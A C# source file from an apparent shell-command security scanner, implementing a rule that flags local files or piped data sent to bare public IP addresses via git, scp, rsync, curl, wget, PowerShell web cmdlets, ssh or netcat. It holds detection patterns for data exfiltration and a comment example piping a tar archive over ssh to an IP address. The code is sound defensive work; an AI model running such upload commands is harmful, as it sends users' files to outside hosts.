using System.Net;
using McpVanguard.Inspection.Network;
using static McpVanguard.Inspection.Shell.ShellVocabulary;

namespace McpVanguard.Inspection.Shell;

/// <summary>
/// Local data sent to a bare public IP address (SHELL-015): <c>git push</c> to a remote on one (written in place or added earlier on
/// the line), <c>scp</c>/<c>rsync</c> to <c>host:path</c> on one, <c>curl -T</c>/<c>-F @file</c>/<c>--data-binary @…</c> and
/// <c>wget --post-file</c> to one, piped data into <c>nc</c> or <c>ssh</c> on one. Real deploy targets, registries and forges have
/// names; a private, loopback or named host passes (docs/DETECTION.md).
/// </summary>
internal sealed partial class ShellAnalyzer
{
    private void CheckRawAddressUpload(ShellPipeline pipeline, int c, int k, string name, ref HashSet<string>? rawRemotes)
    {
        var command = pipeline.Commands[c];
        var words = command.Words;
        var piped = c > 0 || command.Redirects.Exists(static r => r.Operator is "<" or "0<");
        switch (name)
        {
            case "git":
                GitUpload(words, k, ref rawRemotes);
                break;
            case "scp" or "rsync":
                if (CopiesToRawAddress(words, k))
                {
                    Report(ShellFindings.RawAddressUpload);
                }

                break;
            case "curl":
                if ((piped || CurlSendsLocalData(words, k)) && words.Skip(k + 1).Any(static w => w.Contains("://", StringComparison.Ordinal) && IsRawPublicHost(UrlHost(w)))
                    || CurlSendsLocalData(words, k) && words.Skip(k + 1).Any(static w => !w.StartsWith('-') && !w.Contains("://", StringComparison.Ordinal) && IsRawPublicHost(UrlHost("http://" + w))))
                {
                    Report(ShellFindings.RawAddressUpload);
                }

                break;
            case "wget":
                if (words.Skip(k + 1).Any(static w => w.StartsWith("--post-file", StringComparison.Ordinal) || w.StartsWith("--body-file", StringComparison.Ordinal))
                    && words.Skip(k + 1).Any(static w => IsRawPublicHost(UrlHost(w.Contains("://", StringComparison.Ordinal) ? w : "http://" + w))))
                {
                    Report(ShellFindings.RawAddressUpload);
                }

                break;
            case "invoke-webrequest" or "invoke-restmethod" or "iwr" or "irm":
                if ((piped || words.Exists(static w => w.Equals("-InFile", StringComparison.OrdinalIgnoreCase)))
                    && words.Skip(k + 1).Any(static w => w.Contains("://", StringComparison.Ordinal) && IsRawPublicHost(UrlHost(w))))
                {
                    Report(ShellFindings.RawAddressUpload);
                }

                break;
            case "ssh":
                // "tar c ~/x | ssh u@203.0.113.5 'cat > x.tgz'": the pipe's data goes to the host.
                if (piped && words.Skip(k + 1).FirstOrDefault(static w => !w.StartsWith('-')) is { } host && IsRawPublicHost(At(host)))
                {
                    Report(ShellFindings.RawAddressUpload);
                }

                break;
            case var _ when NetCats.Contains(name):
                if (piped && words.Skip(k + 1).Any(static w => w.Contains('.') && IsRawPublicHost(w)))
                {
                    Report(ShellFindings.RawAddressUpload);
                }

                break;
        }
    }

    /// <summary><c>git push &lt;url|remote&gt;</c>, and <c>git remote add|set-url NAME &lt;url&gt;</c> remembered for a push later on the line.</summary>
    private void GitUpload(List<string> words, int k, ref HashSet<string>? rawRemotes)
    {
        var operands = new List<string>();
        for (var i = k + 1; i < words.Count; i++)
        {
            var w = words[i];
            if (w is "-c" or "-C" or "--git-dir" or "--work-tree" or "--namespace" && i + 1 < words.Count)
            {
                i++;
                continue;
            }

            if (!w.StartsWith('-'))
            {
                operands.Add(w);
            }
            else if (w.StartsWith("--repo=", StringComparison.Ordinal) && IsRawPublicHost(RemoteHost(w[7..])))
            {
                Report(ShellFindings.RawAddressUpload);
            }
        }

        if (operands.Count >= 4 && operands[0] == "remote" && operands[1] is "add" or "set-url" && IsRawPublicHost(RemoteHost(operands[3])))
        {
            (rawRemotes ??= new(StringComparer.Ordinal)).Add(operands[2]);
        }
        else if (operands.Count >= 2 && operands[0] == "push"
            && (IsRawPublicHost(RemoteHost(operands[1])) || rawRemotes is not null && rawRemotes.Contains(operands[1])))
        {
            Report(ShellFindings.RawAddressUpload);
        }
    }

    /// <summary>scp/rsync whose destination (the last operand) is <c>[user@]address:path</c> or <c>rsync://address/</c>, with a local source.</summary>
    private static bool CopiesToRawAddress(List<string> words, int k)
    {
        var operands = new List<string>();
        for (var i = k + 1; i < words.Count; i++)
        {
            var w = words[i];
            if (w is "-P" or "-i" or "-o" or "-F" or "-S" or "-l" or "-c" or "-J" or "-e" or "--rsh" or "--port" or "--exclude" or "--include" or "--filter" or "-f" or "--rsync-path" && i + 1 < words.Count)
            {
                i++;
            }
            else if (!w.StartsWith('-'))
            {
                operands.Add(w);
            }
        }

        return operands.Count >= 2 && IsRawPublicHost(RemoteHost(operands[^1])) && !IsRemote(operands[0]);
    }

    /// <summary>curl with data read from a file or standard input: <c>-T f</c>, <c>-F k=@f</c>, <c>-d @f</c>, <c>--data-binary @-</c>, <c>--json @f</c>.</summary>
    private static bool CurlSendsLocalData(List<string> words, int k)
    {
        for (var i = k + 1; i < words.Count; i++)
        {
            var w = words[i];
            if (w is "-T" or "--upload-file" || w.StartsWith("--upload-file=", StringComparison.Ordinal) || w.Length > 2 && w.StartsWith("-T", StringComparison.Ordinal))
            {
                return true;
            }

            var eq = w.IndexOf('=');
            var option = w.StartsWith("--", StringComparison.Ordinal) && eq > 0 ? w[..eq] : w.Length > 2 && w[0] == '-' && w[1] != '-' ? w[..2] : w;
            if (option is not ("-d" or "-F" or "--data" or "--data-binary" or "--data-raw" or "--data-urlencode" or "--form" or "--json"))
            {
                continue;
            }

            var value = option.Length < w.Length ? w[(eq > 0 && option.StartsWith("--", StringComparison.Ordinal) ? eq + 1 : 2)..] : i + 1 < words.Count ? words[++i] : string.Empty;
            if (value.StartsWith('@') || value.Contains("=@", StringComparison.Ordinal) || value.Contains("=<", StringComparison.Ordinal))
            {
                return true;
            }
        }

        return false;
    }

    private static bool IsRemote(string operand) => RemoteHost(operand).Length > 0;

    /// <summary>The host of a URL, of <c>[user@]host:path</c> or of <c>host::module</c>; empty for a local path.</summary>
    private static string RemoteHost(string operand)
    {
        if (operand.Contains("://", StringComparison.Ordinal))
        {
            return UrlHost(operand);
        }

        // [user@][v6]:path — the address's own colons are inside the brackets.
        var bracket = operand.IndexOf('[');
        var colon = bracket >= 0 && bracket <= operand.IndexOf('@') + 1 ? operand.IndexOf("]:", StringComparison.Ordinal) + 1 : operand.IndexOf(':');
        var slash = operand.IndexOf('/');
        return colon > 0 && (slash < 0 || slash > colon) ? At(operand[..colon]) : string.Empty;
    }

    /// <summary>The host of <c>scheme://[user@]host[:port]/…</c>.</summary>
    private static string UrlHost(string url)
    {
        var start = url.IndexOf("://", StringComparison.Ordinal);
        if (start < 0)
        {
            return string.Empty;
        }

        var rest = url.AsSpan(start + 3);
        var end = rest.IndexOfAny('/', '?', '#');
        var authority = end < 0 ? rest : rest[..end];
        var at = authority.LastIndexOf('@');
        authority = at >= 0 ? authority[(at + 1)..] : authority;
        if (authority.StartsWith('['))
        {
            var close = authority.IndexOf(']');
            return close > 0 ? authority[1..close].ToString() : string.Empty;
        }

        var portColon = authority.LastIndexOf(':');
        return (portColon >= 0 ? authority[..portColon] : authority).ToString();
    }

    private static string At(string host)
    {
        var at = host.LastIndexOf('@');
        host = at >= 0 ? host[(at + 1)..] : host;
        return host.Trim('[', ']');
    }

    /// <summary>True for an IP literal (any spelling libc accepts, IPv6, or embedded in a wildcard-DNS name) in public address space.</summary>
    private static bool IsRawPublicHost(string host)
    {
        host = host.TrimEnd('.').ToLowerInvariant();
        if (host.Length == 0)
        {
            return false;
        }

        if (IpClassifier.TryParseIPv4(host, out var v4, out _))
        {
            return IpClassifier.Classify(v4) == UrlRisk.Public;
        }

        if (host.Contains(':') && IPAddress.TryParse(host, out var v6))
        {
            return IpClassifier.Classify(v6, out _) == UrlRisk.Public;
        }

        return WildcardDnsNames.TryEmbeddedAddress(host, out var risk, out _) && risk == UrlRisk.Public;
    }
}
